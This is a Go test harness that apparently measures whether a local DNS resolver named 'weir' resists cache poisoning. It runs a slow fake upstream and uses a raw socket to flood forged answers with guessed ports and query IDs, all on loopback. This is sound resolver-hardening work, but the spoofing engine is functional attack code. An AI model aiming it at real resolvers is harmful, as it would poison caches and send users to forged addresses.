//go:build linux

package attack

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/bpf"
	"golang.org/x/net/ipv4"
)

// Spoofed is what became of forged responses.
type Spoofed struct {
	Control  bool  // one with the right port and ID was taken, so that they are good but for these
	Sent     int64 // forged responses
	Seconds  float64
	Ports    int   // that they were for, in turn
	Queries  int64 // of the client, each for a name that was forged while it waited
	Answered int64 // with the truth
	Accepted int64 // with what was forged
	Upstream int64 // queries that the upstream got over UDP
	OverTCP  int64 // and over TCP
}

// What the upstream says, and what somebody else wants it to have said.
var (
	truth  = net.IPv4(192, 0, 2, 1)
	forged = net.IPv4(192, 0, 2, 66)
)

const (
	spoofClients = 10 // names that are asked for at a time
	// spoofDelay is how long the upstream takes, over UDP: that is what somebody has to guess in. It is less than weir waits until it asks again.
	spoofDelay = 300 * time.Millisecond
	spoofBatch = 64
)

// spoofer is an upstream that is slow, its clients, and who forges its responses.
type spoofer struct {
	server   int // port of weir
	upstream *net.UDPConn
	raw      *ipv4.PacketConn
	names    [spoofClients]atomic.Pointer[string] // that are asked for now
	control  atomic.Bool                          // responses are forged with the right port and ID
	first    int                                  // port of those that queries may come from
	last     int

	sent, queries, answered, accepted, overUDP, overTCP atomic.Int64
}

// Spoof is the process that forges responses: FLAG... It is the upstream at the address given, too, and starts with an empty line when it serves there; it begins when in has a line. What became of it
// is written in JSON: a Spoofed.
//
// Who forges knows the addresses, the port of the upstream, the range that weir's ports are from, and the names that are asked for at that moment: all but port and ID of the query.
// It needs a raw socket, thus root.
func Spoof(args []string, in io.Reader, out io.Writer) error {
	s := new(spoofer)
	flags := flag.NewFlagSet("spoof", flag.ContinueOnError)
	flags.IntVar(&s.server, "udp", 0, "port of weir")
	port := flags.Int("upstream", 0, "port of the upstream")
	d := flags.Duration("time", time.Second, "how long")
	if err := flags.Parse(args); err != nil {
		return err
	}
	if err := s.open(*port); err != nil {
		return fmt.Errorf("spoof: %w", err)
	}
	tcp, err := net.Listen("tcp", local(*port))
	if err != nil {
		return fmt.Errorf("spoof: %w", err)
	}
	go s.serveUDP()
	go s.serveTCP(tcp)
	fmt.Fprintln(out)
	if _, err := in.Read(make([]byte, 1)); err != nil {
		return fmt.Errorf("spoof: %w", err)
	}
	result, err := s.run(*d)
	if err != nil {
		return fmt.Errorf("spoof: %w", err)
	}
	return json.NewEncoder(out).Encode(result)
}

// open opens the sockets and reads the range of ports.
func (s *spoofer) open(port int) error {
	text, err := os.ReadFile("/proc/sys/net/ipv4/ip_local_port_range")
	if err != nil {
		return err
	}
	if _, err := fmt.Sscan(string(text), &s.first, &s.last); err != nil {
		return fmt.Errorf("ip_local_port_range: %w", err)
	}
	if s.upstream, err = net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}); err != nil {
		return err
	}
	raw, err := net.ListenPacket("ip4:udp", "127.0.0.1") // the kernel writes the header of IP, with the address of the upstream
	if err != nil {
		return fmt.Errorf("a raw socket: %w", err)
	}
	s.raw = ipv4.NewPacketConn(raw)
	nothing, err := bpf.Assemble([]bpf.Instruction{bpf.RetConstant{Val: 0}})
	if err != nil {
		return err
	}
	return s.raw.SetBPF(nothing) // it would get a copy of each packet
}

// response is a response of the upstream, with an address.
func response(query *dns.Msg, address net.IP) ([]byte, error) {
	m := new(dns.Msg).SetReply(query)
	m.RecursionAvailable = true
	m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: query.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 300}, A: address}}
	return m.Pack()
}

// serveUDP answers with the truth, after some time.
func (s *spoofer) serveUDP() {
	buf := make([]byte, 4096)
	for {
		n, from, err := s.upstream.ReadFromUDP(buf)
		if errors.Is(err, net.ErrClosed) {
			return
		}
		query := new(dns.Msg)
		if err != nil || query.Unpack(buf[:n]) != nil || len(query.Question) != 1 || query.Response { // an ICMP error, or forged: this port is one of those that get it
			continue
		}
		s.overUDP.Add(1)
		if s.control.Load() {
			if m, err := response(query, forged); err == nil {
				_, _ = s.raw.WriteTo(s.datagram(m, from.Port), nil, &net.IPAddr{IP: from.IP}) // the result tells
			}
		}
		time.AfterFunc(spoofDelay, func() {
			if m, err := response(query, truth); err == nil {
				_, _ = s.upstream.WriteToUDP(m, from) // the query may have been given up
			}
		})
	}
}

// serveTCP answers with the truth, at once.
func (s *spoofer) serveTCP(l net.Listener) {
	server := dns.Server{Listener: l, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, query *dns.Msg) {
		s.overTCP.Add(1)
		if m, err := response(query, truth); err == nil {
			_, _ = w.Write(m) // as above
		}
	})}
	_ = server.ActivateAndServe() // until the process ends
}

func (s *spoofer) run(d time.Duration) (*Spoofed, error) {
	control, err := s.tryControl()
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	begun := time.Now()
	var clients sync.WaitGroup
	for i := range s.names {
		clients.Go(func() { s.client(ctx, i) })
	}
	err = s.forge(ctx)
	took := time.Since(begun)
	clients.Wait()
	return &Spoofed{
		Control: control, Sent: s.sent.Load(), Seconds: took.Seconds(), Ports: s.last - s.first + 1, Queries: s.queries.Load(), Answered: s.answered.Load(),
		Accepted: s.accepted.Load(), Upstream: s.overUDP.Load(), OverTCP: s.overTCP.Load(),
	}, err
}

// tryControl has a response forged for the port and the ID of a query, and reports whether it is taken: nothing else is wrong with them.
func (s *spoofer) tryControl() (bool, error) {
	s.control.Store(true)
	defer s.control.Store(false)
	got, err := s.ask("control.hole.test.")
	return err == nil && got.Equal(forged), err
}

// ask asks weir, and returns the address in the response.
func (s *spoofer) ask(name string) (net.IP, error) {
	client := dns.Client{Timeout: patience}
	m, _, err := client.Exchange(new(dns.Msg).SetQuestion(name, dns.TypeA), local(s.server))
	if err != nil {
		return nil, err
	}
	if len(m.Answer) != 1 {
		return nil, fmt.Errorf("%s: got %s without an address", name, dns.RcodeToString[m.Rcode])
	}
	a, ok := m.Answer[0].(*dns.A)
	if !ok {
		return nil, fmt.Errorf("%s: got %s", name, m.Answer[0])
	}
	return a.A, nil
}

// client asks for one name after the other, and says which.
func (s *spoofer) client(ctx context.Context, i int) {
	for n := 0; ctx.Err() == nil; n++ {
		name := fmt.Sprintf("x%d-%d.hole.test.", i, n)
		s.names[i].Store(&name)
		s.queries.Add(1)
		switch got, err := s.ask(name); {
		case err != nil:
		case got.Equal(forged):
			s.accepted.Add(1)
		default:
			s.answered.Add(1)
		}
	}
}

// datagram puts the header of UDP before a message, without a checksum (RFC 768).
func (s *spoofer) datagram(m []byte, port int) []byte {
	head := make([]byte, 8, 8+len(m))
	binary.BigEndian.PutUint16(head, uint16(s.upstream.LocalAddr().(*net.UDPAddr).Port))
	binary.BigEndian.PutUint16(head[2:], uint16(port))
	binary.BigEndian.PutUint16(head[4:], uint16(8+len(m)))
	return append(head, m...)
}

// forge sends responses to all names in turn, each with another port and ID, as fast as it can.
func (s *spoofer) forge(ctx context.Context) error {
	random := rand.New(rand.NewPCG(5, 6))
	var messages [spoofBatch]ipv4.Message
	for i := range messages {
		messages[i].Addr = &net.IPAddr{IP: net.IPv4(127, 0, 0, 1)}
	}
	for ctx.Err() == nil {
		for i := range messages {
			name := s.names[random.IntN(len(s.names))].Load()
			if name == nil {
				name = new("none.hole.test.")
			}
			query := new(dns.Msg).SetQuestion(*name, dns.TypeA)
			m, err := response(query, forged)
			if err != nil {
				return err
			}
			messages[i].Buffers = [][]byte{s.datagram(m, 0)}
		}
		for range 50 { // with other ports and IDs: to make a message costs more than to send it
			for i := range messages {
				packet := messages[i].Buffers[0]
				binary.BigEndian.PutUint16(packet[2:], uint16(s.first+random.IntN(s.last-s.first+1)))
				binary.BigEndian.PutUint16(packet[8:], uint16(random.Uint32()))
			}
			n, err := s.raw.WriteBatch(messages[:], 0)
			if err != nil && !strings.Contains(err.Error(), "no buffer space") {
				return err
			}
			s.sent.Add(int64(max(n, 0)))
		}
	}
	return nil
}

// SpoofArgs are the flags for a weir and an upstream at ports of 127.0.0.1.
func SpoofArgs(server, upstream int, d time.Duration) []string {
	return []string{"-udp", fmt.Sprint(server), "-upstream", fmt.Sprint(upstream), "-time", d.String()}
}
